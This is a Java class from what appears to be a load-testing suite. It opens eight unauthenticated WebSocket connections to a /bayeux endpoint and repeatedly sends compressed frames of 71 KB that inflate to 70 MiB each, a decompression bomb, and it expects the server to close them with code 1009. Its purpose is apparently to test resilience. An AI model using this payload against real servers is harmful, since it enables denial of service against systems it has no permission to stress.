package megacomet.loadtest.siege.attacks;

import java.io.IOException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.zip.Deflater;
import megacomet.loadtest.siege.attacker.Attack;
import megacomet.loadtest.siege.attacker.Besieged;
import megacomet.loadtest.siege.attacker.Deadline;
import megacomet.loadtest.siege.attacker.Outcome;
import megacomet.loadtest.siege.attacker.Spoils;
import megacomet.loadtest.siege.peer.Socket;

/** Frames of 71 KB that inflate to 70 MiB (RFC 7692), on sockets that nobody needs a token for. */
final class InflatingFrames implements Attack {

    private static final int AT_ONCE = 8;
    private static final int INFLATED_BYTES = 70 << 20;
    private static final long PAUSE_MS = 300;
    private static final String DEFLATE = "Sec-WebSocket-Extensions: permessage-deflate";

    @Override
    public String name() {
        return "inflating-frames";
    }

    @Override
    public String description() {
        return "eight compressed frames of 71 KB that are 70 MiB each, without a token: closed with 1009";
    }

    @Override
    public Outcome run(Besieged target, Deadline deadline) throws Exception {
        Spoils spoils = new Spoils();
        byte[] bomb = bomb();
        do {
            List<Socket> sockets = new ArrayList<>();
            try {
                for (int i = 0; i < AT_ONCE; i++) {
                    sockets.add(Socket.open(target.gateway(), "/bayeux", deadline, DEFLATE));
                }
            } catch (IOException refused) {
                spoils.ended("upgrade: " + refused.getMessage());
            }
            for (Socket socket : sockets) {
                socket.sendCompressed(bomb, deadline);
                spoils.sent(bomb.length);
            }
            for (Socket socket : sockets) {
                try (socket) {
                    socket.next(deadline);
                    spoils.ended(socket.ending());
                }
            }
            deadline.pause(PAUSE_MS);
        } while (!deadline.isOver());
        return spoils.outcome();
    }

    /** Zeros, as one message: without the four bytes that end it (RFC 7692, section 7.2.1). */
    private static byte[] bomb() {
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
        byte[] zeros = new byte[1 << 20];
        byte[] out = new byte[1 << 20];
        int size = 0;
        for (int i = 0; i < INFLATED_BYTES / zeros.length; i++) {
            deflater.setInput(zeros);
            size += deflater.deflate(out, size, out.length - size, Deflater.NO_FLUSH);
        }
        size += deflater.deflate(out, size, out.length - size, Deflater.SYNC_FLUSH);
        deflater.end();
        return Arrays.copyOf(out, size - 4);
    }
}
